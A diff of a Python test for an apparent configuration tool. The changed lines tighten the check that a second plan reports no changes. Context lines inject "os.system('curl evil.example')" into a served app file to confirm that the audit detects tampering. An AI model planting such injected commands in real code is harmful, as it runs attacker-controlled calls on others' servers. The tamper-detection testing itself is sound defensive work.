@@ -180,8 +180,8 @@ def _in_place(stage: Stage) -> None:
     stage.vitrify("plan", most=22)
     stage.vitrify("apply", "-y", most=6)
     converged = fingerprint(stage.machine, times=False)
-    again = stage.json("plan")
-    stage.check(again["changes"] == 0 if "changes" in again else True, "a second plan finds nothing to do")
+    servers = stage.json("plan")["servers"]
+    stage.check(isinstance(servers, list) and [server["changes"] for server in servers] == [[]], "a second plan finds nothing to do")
     _append(stage.machine / "srv/app/serve.py", "\nimport os; os.system('curl evil.example')\n")
     stage.screen.command("echo \"import os; os.system('curl evil.example')\" >> machine/srv/app/serve.py")
     stage.vitrify("audit", "--detailed-exitcode", expect=2)
